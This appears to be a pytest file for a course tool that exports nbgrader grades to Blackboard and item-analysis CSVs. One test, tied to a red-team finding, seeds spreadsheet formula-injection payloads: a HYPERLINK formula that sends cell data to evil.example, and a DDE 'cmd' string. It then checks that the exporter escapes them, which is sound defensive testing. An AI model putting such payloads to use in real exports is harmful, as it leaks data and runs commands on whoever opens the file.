"""`make grades`: Blackboard's Grade Centre file (user names through a roster) and one row per test cell.

A small course is released with nbgrader (two notebooks of two assignments); its gradebook is then
given scores through nbgrader's own API, as autograde, a grader and a late penalty would leave them,
and `python -m coursepack.grading grades` is run as `make grades` runs it.
"""
import csv
import shutil
import subprocess
import sys

import nbformat
import pytest
from nbgrader.api import Gradebook

from coursepack.grading import classroom, exports, grade


def meta(grade_id, *, grade=False, solution=False, locked=False, points=None):
    data = {"schema_version": 3, "grade": grade, "solution": solution, "locked": locked, "task": False,
            "grade_id": grade_id}
    if points is not None:
        data["points"] = points
    return {"nbgrader": data}


def tiny(prefix):
    v4 = nbformat.v4
    return v4.new_notebook(cells=[
        v4.new_markdown_cell("Exercise", metadata=meta(f"{prefix}_intro", locked=True)),
        v4.new_code_cell("def f(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION",
                         metadata=meta(f"{prefix}_answer", solution=True)),
        v4.new_code_cell("assert f(1) == 2", metadata=meta(f"{prefix}_test_b", grade=True, locked=True, points=2)),
        v4.new_code_cell("assert f(2) == 4", metadata=meta(f"{prefix}_test_a", grade=True, locked=True, points=1)),
        v4.new_markdown_cell("### BEGIN SOLUTION\nbecause\n### END SOLUTION",
                             metadata=meta(f"{prefix}_written", grade=True, solution=True, points=3)),
    ], metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    folder = tmp_path_factory.mktemp("exports")
    classroom.make_course(folder, "practical1", {"nb": tiny("p1")})
    classroom.make_course(folder, "practical2", {"nb": tiny("p2")})
    with Gradebook(f"sqlite:///{folder / 'gradebook.db'}", "comp3547") as gradebook:
        for student in ("s001", "s002", "s003"):
            gradebook.update_or_create_student(student, first_name=f"First{student}", last_name=f"Last{student}")
        scores = {("s001", "practical1"): {"p1_test_b": 2, "p1_test_a": 1, "p1_written": 2},
                  ("s002", "practical1"): {"p1_test_b": 0, "p1_test_a": 1},
                  ("s001", "practical2"): {"p2_test_b": 2, "p2_test_a": 0}}
        for (student, assignment), given in scores.items():
            gradebook.update_or_create_submission(assignment, student)
            notebook = gradebook.find_submission_notebook("nb", assignment, student)
            for grade in notebook.grades:
                if grade.cell_type == "code":
                    grade.auto_score = given.get(grade.name, 0)
                elif grade.name in given:
                    grade.manual_score = given[grade.name]
            gradebook.db.commit()
        late = gradebook.find_submission_notebook("nb", "practical2", "s001")
        late.late_submission_penalty = 0.5
        gradebook.db.commit()
    return folder


def run_grades(course, *args):
    return subprocess.run([sys.executable, "-m", "coursepack.grading", "grades", *args], cwd=course,
                          env=classroom.env(course), capture_output=True, text=True)


def read(path):
    with open(path, newline="") as handle:
        return list(csv.reader(handle))


def test_blackboard_file_maps_ids_to_user_names_and_reports_missing_entries(course, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("\ufeffid,username,first_name,last_name\ns001,ada1,Ada,Lovelace\ns002,bob2,,\n"
                      "s009,zed9,Zed,Z\n")
    config = course / "nbgrader_config.py"
    config.write_text(config.read_text() + '\nc.BlackboardExport.column_ids = {"practical1": "4711"}\n')
    done = run_grades(course, f"--blackboard={roster}")
    assert done.returncode == 1, "a missing roster entry must not pass silently"
    assert "s003 is in the gradebook but not on the roster" in done.stderr
    assert "s009 (zed9) is on the roster but not in the gradebook" in done.stderr
    text = (course / "grades-blackboard.csv").read_text()
    assert text.splitlines()[0] == ('"Last Name","First Name","Username","practical1 [Total Pts: 6 Score] |4711",'
                                    '"practical2 [Total Pts: 6 Score]"')
    rows = {row[2]: row for row in read(course / "grades-blackboard.csv")[1:]}
    assert rows == {"ada1": ["Lovelace", "Ada", "ada1", "5", "1.5"],  # 2 + 1 + 2 written; 2 less 0.5 late
                    "bob2": ["Lasts002", "Firsts002", "bob2", "1", "0"],  # names from the gradebook; no practical2
                    "zed9": ["Z", "Zed", "zed9", "", ""]}  # not graded: blank, never a 0 over a real score
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())


def test_item_analysis_has_one_row_per_graded_cell_in_notebook_order(course):
    done = run_grades(course)
    assert done.returncode == 0, done.stderr[-2000:]
    rows = read(course / "grades-items.csv")
    assert rows[0] == exports.ITEM_COLUMNS
    table = [(r[0], r[1], r[3], r[5], r[6]) for r in rows[1:]]
    assert table == [
        ("s001", "practical1", "p1_test_b", "2.0", "2.0"), ("s001", "practical1", "p1_test_a", "1.0", "1.0"),
        ("s001", "practical1", "p1_written", "2.0", "3.0"),
        ("s001", "practical2", "p2_test_b", "2.0", "2.0"), ("s001", "practical2", "p2_test_a", "0.0", "1.0"),
        ("s001", "practical2", "p2_written", "0.0", "3.0"),
        ("s002", "practical1", "p1_test_b", "0.0", "2.0"), ("s002", "practical1", "p1_test_a", "1.0", "1.0"),
        ("s002", "practical1", "p1_written", "0.0", "3.0")]


def test_a_roster_without_user_names_is_refused(tmp_path):
    bad = tmp_path / "roster.csv"
    bad.write_text("id,name\ns001,Ada\n")
    with pytest.raises(ValueError, match="id and username"):
        exports.rosters.read(bad)


def test_no_cell_of_either_file_runs_as_a_formula_and_a_roster_typo_zeroes_nobody(course, tmp_path, monkeypatch):
    """Red team F6 (formula injection through ids and names) and F7 (a roster id typo wrote 0 for a real student)."""
    folder = tmp_path / "course"
    shutil.copytree(course, folder)
    for name, value in classroom.env(folder).items():
        monkeypatch.setenv(name, value)
    evil = '=HYPERLINK("http://evil.example?"&C2,"appeal")'
    with Gradebook(f"sqlite:///{folder / 'gradebook.db'}", "comp3547") as gradebook:
        gradebook.update_or_create_student(evil)
        gradebook.update_or_create_submission("practical1", evil)
    roster = tmp_path / "roster.csv"
    roster.write_text('id,username,first_name,last_name\ns001,ada1,=1+1,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n'
                      "S002,bob2,+Bo,-Ma\n")  # S002: the id typed with a capital
    result = exports.export(folder, roster=roster)
    assert result.exit_code == 1
    rows = {row[2]: row for row in read(folder / "grades-blackboard.csv")[1:]}
    assert rows["ada1"] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1", "ada1", "5", "1.5"]
    assert rows["bob2"] == ["'-Ma", "'+Bo", "bob2", "", ""]
    items = read(folder / "grades-items.csv")
    students = {row[0] for row in items[1:]}
    assert f"'{evil}" in students and evil not in students
    assert not [c for row in items for c in row if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert any("S002 (bob2) is on the roster but not in the gradebook: its scores are left blank" in p.message
               for p in result.problems), result.problems


def test_a_failed_nbgrader_run_is_reported_by_its_exception_not_traceback_header():
    """Red team F5: the cause recorded was "Traceback (most recent call last):"."""
    log = ("[INFO] Updating/creating assignment 'practical1'\n"
           "[ERROR] There was an error processing assignment: /tmp/x\n"
           "[ERROR] Traceback (most recent call last):\n"
           '      File "nbgrader/preprocessors/overwritecells.py", line 140, in add_missing_grade_cells\n'
           "        prev_cell_idx = submitted_cell_idxs[prev_cell_id] + added_count\n"
           "    KeyError: 'test_add'\n"
           "    \n"  # nbgrader's log indents a record's further lines by four
           "[ERROR] There was an error processing assignment 'p1' for student 's001'\n"
           "[ERROR] Please see the error log for details\n")
    assert grade._cause({"success": False, "log": log, "error": "Traceback (most recent call last):\n  x\n"
                                                             "SystemExit: 1\n"}) == "KeyError: 'test_add'"
    assert grade._cause({"success": False, "error": "Traceback (most recent call last):\n  File x\n"
                                                    "ValueError: bad cell\n"}) == "ValueError: bad cell"
    assert grade._cause({"success": False, "log": "[ERROR] No notebooks were matched\n"}) == (
        "No notebooks were matched")
